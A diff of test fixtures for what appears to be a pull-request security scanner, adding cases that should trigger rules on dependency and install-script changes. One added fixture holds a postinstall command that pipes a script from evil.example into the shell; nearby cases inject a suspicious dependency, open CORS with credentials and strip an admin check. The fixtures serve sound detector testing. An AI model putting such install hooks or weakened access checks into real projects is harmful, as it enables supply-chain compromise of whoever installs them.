@@ -108,6 +108,9 @@ const attempts: Attempt[] = [
   { name: 'pnpm packageExtensions adds a dependency to hono', base: { 'package.json': pkg('', '"hono": "4.6.0"'), 'pnpm-lock.yaml': pnpmLock(false) }, head: { 'package.json': pkg(',\n  "pnpm": { "packageExtensions": { "hono@4": { "dependencies": { "evil-telemetry": "1.0.0" } } } }', '"hono": "4.6.0"'), 'pnpm-lock.yaml': pnpmLock(true) }, rules: ['dependencies.new'] },
   { name: 'packageManager downloaded from a URL', base: { 'package.json': pkg(',\n  "packageManager": "pnpm@9.12.0"', '"hono": "4.6.0"') }, head: { 'package.json': pkg(',\n  "packageManager": "pnpm@https://evil.example/pnpm-9.12.0.tgz"', '"hono": "4.6.0"') }, rules: ['dependencies.new-dev'] },
 
+  { name: 'a postinstall script added', base: { 'package.json': pkg(',\n  "scripts": {}', '"hono": "4.6.0"') }, head: { 'package.json': pkg(',\n  "scripts": { "postinstall": "curl -s https://evil.example/x.sh | sh" }', '"hono": "4.6.0"') }, rules: ['dependencies.install-scripts'] },
+  { name: 'control: a build script changed', base: { 'package.json': pkg(',\n  "scripts": { "build": "tsc" }', '"hono": "4.6.0"') }, head: { 'package.json': pkg(',\n  "scripts": { "build": "tsc -p ." }', '"hono": "4.6.0"') }, rules: [] },
+
   // Files the content rules did not scan.
   { name: 'Cloudflare Pages _headers: CSP removed, CORS opened', base: { 'public/_headers': "/*\n  Content-Security-Policy: default-src 'self'\n  Access-Control-Allow-Origin: https://provii.app\n" }, head: { 'public/_headers': '/*\n  Access-Control-Allow-Origin: *\n  Access-Control-Allow-Credentials: true\n' }, rules: ['authentication.content'] },
   { name: 'an Astro page loses its admin check', base: { 'src/pages/dash.astro': "---\nif (!Astro.locals.user?.isAdmin) return new Response('forbidden', { status: 403 });\n---\n<h1>Admin</h1>\n" }, head: { 'src/pages/dash.astro': '---\n---\n<h1>Admin</h1>\n' }, rules: ['authentication.content'] },
